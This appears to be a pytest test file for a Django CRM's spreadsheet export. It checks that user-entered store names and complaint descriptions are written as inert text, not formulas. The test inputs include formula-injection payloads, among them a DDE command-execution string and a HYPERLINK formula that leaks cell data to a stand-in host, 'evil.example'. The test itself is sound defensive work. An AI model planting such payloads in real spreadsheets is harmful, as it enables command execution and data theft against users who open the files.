"""Exports never hand a spreadsheet a formula: text a user typed stays text."""

import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from complaints import services as complaint_services
from complaints.models import Channel, Kind
from conftest import api_as
from crm_project.exports import inert_cell

pytestmark = pytest.mark.django_db

PAYLOADS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?leak="&A2,"click")',
            "+1+1", "-2+3", "@SUM(A1:A2)", "\tcmd", "\rcmd"]


def _workbook(response):
    content = b"".join(response.streaming_content)
    return content, load_workbook(io.BytesIO(content)).active


def _no_formula_in(content: bytes):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def _assert_inert(cell, text):
    # The data survives for a re-import (XML itself turns a lone CR into LF).
    assert cell.value == text.replace("\r", "\n")
    assert cell.data_type == "s"
    assert cell.quotePrefix is True


@pytest.mark.parametrize("payload", PAYLOADS)
def test_customer_export_page_and_api_write_a_formula_name_as_text(payload, client, admin_user,
                                                                   store):
    store.name = payload
    store.save()
    client.force_login(admin_user)
    for response in (client.get(reverse("customers:export")),
                     api_as(admin_user).get("/api/customers/export/")):
        assert response.status_code == 200
        content, sheet = _workbook(response)
        _no_formula_in(content)
        name_cell = sheet.cell(row=2, column=2)
        _assert_inert(name_cell, payload)


def test_complaint_export_writes_a_formula_description_and_store_name_as_text(client, manager,
                                                                              store):
    store.name = "=cmd|' /C calc'!A0"
    store.save()
    complaint_services.complaint_create(user=manager, customer=store, channel=Channel.PHONE,
                                        kind=Kind.DELIVERY, description="=HYPERLINK(\"x\")")
    client.force_login(manager)
    content, sheet = _workbook(client.get(reverse("complaints:export")))
    _no_formula_in(content)
    row = sheet[2]
    _assert_inert(row[2], "=cmd|' /C calc'!A0")
    _assert_inert(row[-1], '=HYPERLINK("x")')  # the description is the last column


def test_numbers_and_plain_text_are_left_alone():
    assert inert_cell(None, -12.5) == -12.5
    assert inert_cell(None, -3) == -3
    assert inert_cell(None, "百利达便利店") == "百利达便利店"
    assert inert_cell(None, None) is None


def test_a_negative_number_stays_a_number_in_the_export(client, admin_user, store):
    store.latitude = "-23.100000"
    store.save()
    client.force_login(admin_user)
    _content, sheet = _workbook(client.get(reverse("customers:export")))
    header = [cell.value for cell in sheet[1]]
    latitude = sheet.cell(row=2, column=len(header) - 1)
    assert latitude.value == -23.1
    assert latitude.data_type == "n"
